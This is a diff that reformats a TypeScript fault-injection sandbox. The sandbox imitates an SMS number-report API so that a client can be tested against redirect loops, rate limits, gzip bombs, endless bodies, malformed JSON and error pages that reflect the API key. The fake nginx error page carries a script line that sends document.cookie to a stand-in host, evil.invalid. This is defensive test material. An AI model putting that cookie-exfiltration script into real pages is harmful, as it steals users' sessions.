@@ -63,9 +63,20 @@ export type Fault =
   | { readonly kind: 'gzip-bomb' }
   /** A redirect (default 302); `hops` redirects (default 1) before the normal answer, except for 'loop'.
    *  `sendId` replaces the send ID in the target path. Counted in Sandbox.redirectStats. */
-  | { readonly kind: 'redirect'; readonly status?: 301 | 302 | 303 | 307 | 308; readonly to: RedirectTarget; readonly hops?: number; readonly sendId?: string }
+  | {
+      readonly kind: 'redirect';
+      readonly status?: 301 | 302 | 303 | 307 | 308;
+      readonly to: RedirectTarget;
+      readonly hops?: number;
+      readonly sendId?: string;
+    }
   /** Any status, e.g. 429 with Retry-After, 500, 502, 503. Default body: `{"durum":false,"aciklama":"<reason>"}`. */
-  | { readonly kind: 'status'; readonly code: number; readonly body?: string; readonly headers?: Readonly<Record<string, string>> }
+  | {
+      readonly kind: 'status';
+      readonly code: number;
+      readonly body?: string;
+      readonly headers?: Readonly<Record<string, string>>;
+    }
   /** Read the request body, then destroy the socket (ECONNRESET after the request was sent). */
   | { readonly kind: 'reset-after-body' }
   /** A server that reflects the request (URL with the key, the decoded key, the body) in its error answer. */
@@ -84,7 +95,10 @@ export const FAULT_SEND_IDS: Readonly<Record<string, { readonly fault: Fault; re
   9003: { fault: { kind: 'malformed-json' }, description: '200 with malformed JSON' },
   9004: { fault: { kind: 'oversized' }, description: '200 with a 2 MiB body and no content-length' },
   9005: { fault: { kind: 'redirect', status: 302, to: 'loop' }, description: 'a redirect loop (302 to itself)' },
-  9006: { fault: { kind: 'status', code: 429, headers: { 'retry-after': '2' } }, description: '429 with Retry-After: 2' },
+  9006: {
+    fault: { kind: 'status', code: 429, headers: { 'retry-after': '2' } },
+    description: '429 with Retry-After: 2',
+  },
   9007: { fault: { kind: 'status', code: 500 }, description: 'HTTP 500' },
   9008: { fault: { kind: 'empty' }, description: '200 with an empty body' },
   9009: { fault: { kind: 'json-null' }, description: '200 with the body null' },
@@ -92,11 +106,20 @@ export const FAULT_SEND_IDS: Readonly<Record<string, { readonly fault: Fault; re
   9011: { fault: { kind: 'truncated-json' }, description: '200 with JSON cut off in the middle' },
   9012: { fault: { kind: 'gzip-bomb' }, description: 'a gzip bomb (~200 KB → ~200 MB)' },
   9013: { fault: { kind: 'drip' }, description: '200 headers, then one byte every 100 ms forever' },
-  9014: { fault: { kind: 'status', code: 429, headers: { 'retry-after': '3600' } }, description: '429 with Retry-After: 3600' },
+  9014: {
+    fault: { kind: 'status', code: 429, headers: { 'retry-after': '3600' } },
+    description: '429 with Retry-After: 3600',
+  },
   9015: { fault: { kind: 'status', code: 503 }, description: 'HTTP 503' },
   9016: { fault: { kind: 'reset-after-body' }, description: 'the connection is reset after the request' },
-  9017: { fault: { kind: 'redirect', status: 307, to: 'same-host', sendId: '187' }, description: '307 to NumaraRaporu/187 on the same host (followed)' },
-  9018: { fault: { kind: 'redirect', status: 307, to: 'other-host' }, description: '307 to another host name (refused)' },
+  9017: {
+    fault: { kind: 'redirect', status: 307, to: 'same-host', sendId: '187' },
+    description: '307 to NumaraRaporu/187 on the same host (followed)',
+  },
+  9018: {
+    fault: { kind: 'redirect', status: 307, to: 'other-host' },
+    description: '307 to another host name (refused)',
+  },
   9019: { fault: { kind: 'delay', ms: 5000 }, description: 'answers after 5 s (as send 187)' },
   9020: { fault: { kind: 'oversized', endless: true }, description: 'an endless body' },
   9021: {
@@ -220,14 +243,16 @@ export function gzipBomb(): Promise<Buffer> {
 /** The nginx-style error page of the 'html' fault. */
 export function nginxPage(status: number): string {
   const title = `${status} ${http.STATUS_CODES[status] ?? 'Error'}`;
-  return '<html>\r\n'
-    + `<head><title>${title}</title></head>\r\n`
-    + '<body>\r\n'
-    + `<center><h1>${title}</h1></center>\r\n`
-    + '<hr><center>nginx</center>\r\n'
-    + `<script>document.title='pwned';fetch('https://evil.invalid/?c='+document.cookie)</script>\r\n`
-    + '</body>\r\n'
-    + '</html>\r\n';
+  return (
+    '<html>\r\n' +
+    `<head><title>${title}</title></head>\r\n` +
+    '<body>\r\n' +
+    `<center><h1>${title}</h1></center>\r\n` +
+    '<hr><center>nginx</center>\r\n' +
+    `<script>document.title='pwned';fetch('https://evil.invalid/?c='+document.cookie)</script>\r\n` +
+    '</body>\r\n' +
+    '</html>\r\n'
+  );
 }
 
 export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> {
@@ -250,27 +275,39 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
   let httpPort: number | undefined;
 
   /** setTimeout that close() can cancel; the promise then never settles (the socket is gone anyway). */
-  const later = (ms: number): Promise<void> => new Promise((resolve) => {
-    const t = setTimeout(() => { timers.delete(t); resolve(); }, ms);
-    timers.add(t);
-  });
-
-  const handler = (reqScheme: 'http' | 'https') => (req: http.IncomingMessage, res: http.ServerResponse): void => {
-    handle(req, res, reqScheme).catch((e: unknown) => {
-      log?.(`sandbox: handler error ${String(e)}`);
-      if (!res.headersSent && !res.destroyed) {
-        res.writeHead(500, { 'content-type': 'text/plain' });
-        res.end('sandbox error');
-      } else {
-        res.destroy();
-      }
+  const later = (ms: number): Promise<void> =>
+    new Promise((resolve) => {
+      const t = setTimeout(() => {
+        timers.delete(t);
+        resolve();
+      }, ms);
+      timers.add(t);
     });
-  };
 
-  async function handle(req: http.IncomingMessage, res: http.ServerResponse, reqScheme: 'http' | 'https'): Promise<void> {
+  const handler =
+    (reqScheme: 'http' | 'https') =>
+    (req: http.IncomingMessage, res: http.ServerResponse): void => {
+      handle(req, res, reqScheme).catch((e: unknown) => {
+        log?.(`sandbox: handler error ${String(e)}`);
+        if (!res.headersSent && !res.destroyed) {
+          res.writeHead(500, { 'content-type': 'text/plain' });
+          res.end('sandbox error');
+        } else {
+          res.destroy();
+        }
+      });
+    };
+
+  async function handle(
+    req: http.IncomingMessage,
+    res: http.ServerResponse,
+    reqScheme: 'http' | 'https',
+  ): Promise<void> {
     inFlight++;
     maxInFlight = Math.max(maxInFlight, inFlight);
-    res.once('close', () => { inFlight--; });
+    res.once('close', () => {
+      inFlight--;
+    });
     const started = Date.now();
     const target = req.url ?? '/';
     const url = new URL(target, 'http://sandbox.invalid');
@@ -296,7 +333,12 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
       res.writeHead(status, headers);
       log?.(`${record.method} ${redactKey(target)} → ${status} (${Date.now() - started} ms)`);
     };
-    const sendText = (status: number, contentType: string, body: string | Buffer, extra: http.OutgoingHttpHeaders = {}): void => {
+    const sendText = (
+      status: number,
+      contentType: string,
+      body: string | Buffer,
+      extra: http.OutgoingHttpHeaders = {},
+    ): void => {
       const buf = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
       head(status, { 'content-type': contentType, 'content-length': buf.length, ...extra });
       res.end(buf);
@@ -325,7 +367,18 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
     if (active?.kind === 'redirect' && active.to !== 'loop' && hop >= (active.hops ?? 1)) active = undefined;
     if (active) {
       if (active.kind !== 'delay') {
-        await applyFault(active, { req, res, url, sendId, hop, body: record.body, head, sendText, sendJson, reqScheme });
+        await applyFault(active, {
+          req,
+          res,
+          url,
+          sendId,
+          hop,
+          body: record.body,
+          head,
+          sendText,
+          sendJson,
+          reqScheme,
+        });
         return;
       }
       await later(active.ms);
@@ -396,11 +449,18 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
         c.head(200, { 'content-type': JSON_TYPE });
         res.write('{"durum":true,"aciklama":{"mesaj":"');
         const t = setInterval(() => {
-          if (res.destroyed || closed) { clearInterval(t); timers.delete(t); return; }
+          if (res.destroyed || closed) {
+            clearInterval(t);
+            timers.delete(t);
+            return;
+          }
           res.write('.');
         }, f.intervalMs ?? 100);
         timers.add(t);
-        res.once('close', () => { clearInterval(t); timers.delete(t); });
+        res.once('close', () => {
+          clearInterval(t);
+          timers.delete(t);
+        });
         return;
       }
       case 'html': {
@@ -412,20 +472,33 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
         c.sendText(f.status ?? 200, JSON_TYPE, `{"durum": true, "aciklama": {'id': 3024, "numara": "5399999999",}}`);
         return;
       case 'truncated-json':
-        c.sendText(f.status ?? 200, JSON_TYPE, '{"durum":true,"aciklama":{"id":3024,"sms_gonderim_id":187,"numara":"53999');
+        c.sendText(
+          f.status ?? 200,
+          JSON_TYPE,
+          '{"durum":true,"aciklama":{"id":3024,"sms_gonderim_id":187,"numara":"53999',
+        );
         return;
       case 'json-null':
         c.sendText(200, JSON_TYPE, 'null');
         return;
       case 'json-array':
-        c.sendText(200, JSON_TYPE, JSON.stringify([{ durum: true, aciklama: { id: 3024, durum_gonderim: 'DELIVERED' } }]));
+        c.sendText(
+          200,
+          JSON_TYPE,
+          JSON.stringify([{ durum: true, aciklama: { id: 3024, durum_gonderim: 'DELIVERED' } }]),
+        );
         return;
       case 'empty':
         c.sendText(f.status ?? 200, JSON_TYPE, '');
         return;
       case 'oversized': {
         c.head(200, { 'content-type': JSON_TYPE });
-        streamBody(res, '{"durum":true,"aciklama":{"mesaj":"', f.endless ? undefined : (f.bytes ?? OVERSIZED_BYTES), '"}}');
+        streamBody(
+          res,
+          '{"durum":true,"aciklama":{"mesaj":"',
+          f.endless ? undefined : (f.bytes ?? OVERSIZED_BYTES),
+          '"}}',
+        );
         return;
       }
       case 'gzip-bomb': {
@@ -457,12 +530,16 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
             location = f.to;
         }
         redirectStats.issued++;
-        c.sendText(f.status ?? 302, 'text/html', `<a href="${location.replace(/"/g, '&quot;')}">moved</a>`, { location });
+        c.sendText(f.status ?? 302, 'text/html', `<a href="${location.replace(/"/g, '&quot;')}">moved</a>`, {
+          location,
+        });
         return;
       }
       case 'status': {
-        const body = f.body ?? JSON.stringify({ durum: false, aciklama: http.STATUS_CODES[f.code] ?? `HTTP ${f.code}` });
-        const contentType = f.headers?.['content-type'] ?? (looksLikeJson(body) ? JSON_TYPE : 'text/plain; charset=utf-8');
+        const body =
+          f.body ?? JSON.stringify({ durum: false, aciklama: http.STATUS_CODES[f.code] ?? `HTTP ${f.code}` });
+        const contentType =
+          f.headers?.['content-type'] ?? (looksLikeJson(body) ? JSON_TYPE : 'text/plain; charset=utf-8');
         c.sendText(f.code, contentType, body, { ...f.headers });
         return;
       }
@@ -474,10 +551,17 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
         const key = c.url.searchParams.get('api_key') ?? '';
         const reqBody = c.body;
         if (f.format === 'html') {
-          c.sendText(status, 'text/html', `<html><head><title>${status} Bad Request</title></head><body><h1>Bad Request</h1>`
-            + `<p>The request ${c.req.method} ${c.req.url} could not be processed.</p><p>api_key: ${key}</p><pre>${reqBody}</pre></body></html>`);
+          c.sendText(
+            status,
+            'text/html',
+            `<html><head><title>${status} Bad Request</title></head><body><h1>Bad Request</h1>` +
+              `<p>The request ${c.req.method} ${c.req.url} could not be processed.</p><p>api_key: ${key}</p><pre>${reqBody}</pre></body></html>`,
+          );
         } else {
-          c.sendJson(status, { durum: false, aciklama: `Geçersiz istek: ${c.req.method} ${c.req.url} (api_key: ${key}) ${reqBody}` });
+          c.sendJson(status, {
+            durum: false,
+            aciklama: `Geçersiz istek: ${c.req.method} ${c.req.url} (api_key: ${key}) ${reqBody}`,
+          });
         }
         return;
       }
@@ -521,7 +605,9 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
       sockets.add(s);
       s.once('close', () => sockets.delete(s));
     });
-    server.on('clientError', (_e, s: Socket) => { s.destroy(); });
+    server.on('clientError', (_e, s: Socket) => {
+      s.destroy();
+    });
   }
 
   port = await listen(main, opts.port ?? 0, host);
@@ -541,8 +627,12 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
     port,
     httpPort,
     requests,
-    get inFlight() { return inFlight; },
-    get maxInFlight() { return maxInFlight; },
+    get inFlight() {
+      return inFlight;
+    },
+    get maxInFlight() {
+      return maxInFlight;
+    },
     redirectStats,
     resetStats() {
       requests.length = 0;
@@ -551,9 +641,15 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
       redirectStats.atTarget = 0;
       redirectStats.bodiesAtTarget = 0;
     },
-    setLatency(ms: number) { latencyMs = ms; },
-    setFault(f: Fault | undefined) { fault = f; },
-    setApiKey(key: string) { apiKey = key; },
+    setLatency(ms: number) {
+      latencyMs = ms;
+    },
+    setFault(f: Fault | undefined) {
+      fault = f;
+    },
+    setApiKey(key: string) {
+      apiKey = key;
+    },
     resetProgress(n?: number) {
       queryCounts.clear();
       if (n !== undefined) progressAfter = n;
@@ -561,12 +657,20 @@ export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> 
     async close() {
       if (closed) return;
       closed = true;
-      for (const t of timers) { clearTimeout(t); clearInterval(t); }
+      for (const t of timers) {
+        clearTimeout(t);
+        clearInterval(t);
+      }
       timers.clear();
-      const closing = [main, companion].filter((s): s is http.Server => !!s).map((s) => new Promise<void>((resolve) => {
-        s.close(() => resolve());
-        s.closeAllConnections();
-      }));
+      const closing = [main, companion]
+        .filter((s): s is http.Server => !!s)
+        .map(
+          (s) =>
+            new Promise<void>((resolve) => {
+              s.close(() => resolve());
+              s.closeAllConnections();
+            }),
+        );
       for (const s of sockets) s.destroy();
       sockets.clear();
       await Promise.all(closing);
